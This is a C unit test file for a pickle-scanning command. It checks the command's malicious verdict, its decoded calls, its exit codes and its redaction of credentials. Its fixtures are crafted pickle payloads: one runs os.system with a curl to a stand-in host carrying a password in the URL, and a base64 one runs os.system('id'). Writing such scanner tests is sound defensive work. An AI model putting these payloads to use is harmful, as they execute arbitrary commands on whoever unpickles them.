/* `celeriac pickle`: what it prints, and its exit codes. */
#include <setjmp.h>
#include <stdarg.h>
#include <stdio.h>
#include <stdlib.h>
#include <string.h>
#include <unistd.h>

#include <cmocka.h>
#include <jansson.h>

#include "run/pickle_command.h"

#define MALICIOUS "cos\nsystem\n(S'curl https://bob:hunter2secret@h/'\ntR."

static void write_file(const char *path, const char *text)
{
    FILE *f = fopen(path, "wb");

    assert_non_null(f);
    fwrite(text, 1, strlen(text), f);
    fclose(f);
}

/* Runs the command with standard output in a file; the text is the caller's. */
static char *run(int argc, char **argv, int *status)
{
    char path[] = "/tmp/pickle_command.XXXXXX", *text = calloc(1, 65536);
    int fd = mkstemp(path), saved = dup(STDOUT_FILENO);
    size_t n;

    fflush(stdout);
    assert_true(fd >= 0 && saved >= 0 && text);
    dup2(fd, STDOUT_FILENO);
    *status = pickle_command(argc, argv);
    fflush(stdout);
    dup2(saved, STDOUT_FILENO);
    n = (size_t)pread(fd, text, 65535, 0);
    text[n < 65536 ? n : 0] = '\0';
    close(fd);
    close(saved);
    unlink(path);
    return text;
}

static void test_json(void **state)
{
    char *argv[] = {"pickle", "--json", "a.pkl", "b.b64", NULL};
    int status;
    char *text, *second;

    (void)state;
    write_file("a.pkl", MALICIOUS);
    write_file("b.b64", "gASMAm9zlIwGc3lzdGVtlJOUjAJpZJSFlFKULg==\n");
    text = run(4, argv, &status);
    second = strchr(text, '\n') + 1;
    assert_int_equal(status, 0);
    json_t *a = json_loads(text, JSON_DISABLE_EOF_CHECK, NULL), *b = json_loads(second, 0, NULL);
    assert_string_equal(json_string_value(json_object_get(a, "file")), "a.pkl");
    assert_string_equal(json_string_value(json_object_get(a, "verdict")), "malicious");
    assert_true(json_is_array(json_object_get(a, "flags")) &&
                json_is_array(json_object_get(a, "calls")));
    assert_string_equal(json_string_value(json_object_get(
                            json_array_get(json_object_get(a, "imports"), 0), "import")),
                        "os.system");
    assert_string_equal(
        json_string_value(json_object_get(json_array_get(json_object_get(b, "calls"), 0), "call")),
        "os.system('id')");
    assert_string_equal(json_string_value(json_object_get(b, "unwrapped")), "base64");
    assert_null(strstr(text, "hunter2"));
    json_decref(a);
    json_decref(b);
    free(text);
}

static void test_text(void **state)
{
    char *argv[] = {"pickle", "a.pkl", NULL};
    int status;
    char *text;

    (void)state;
    write_file("a.pkl", MALICIOUS);
    text = run(2, argv, &status);
    assert_int_equal(status, 0);
    assert_non_null(strstr(text, "a.pkl: malicious"));
    assert_non_null(strstr(text, "GLOBAL"));
    assert_non_null(strstr(text, "REDUCE"));
    assert_null(strstr(text, "hunter2"));
    free(text);
}

static void test_exit_codes(void **state)
{
    char *missing[] = {"pickle", "no-such-file", "a.pkl", NULL}, *bad[] = {"pickle", "--bad", NULL};
    int status;
    char *text;

    (void)state;
    write_file("a.pkl", MALICIOUS);
    text = run(3, missing, &status);
    assert_int_equal(status, 66);
    assert_non_null(strstr(text, "malicious")); /* the other file is judged all the same */
    free(text);
    free(run(2, bad, &status));
    assert_int_equal(status, 64);
    unlink("a.pkl");
    unlink("b.b64");
}

int main(void)
{
    char folder[] = "/tmp/pickle_command.XXXXXX";
    const struct CMUnitTest tests[] = {cmocka_unit_test(test_json), cmocka_unit_test(test_text),
                                       cmocka_unit_test(test_exit_codes)};

    if (!mkdtemp(folder) || chdir(folder) != 0)
        return 1;
    int failed = cmocka_run_group_tests(tests, NULL, NULL);
    rmdir(folder);
    return failed;
}
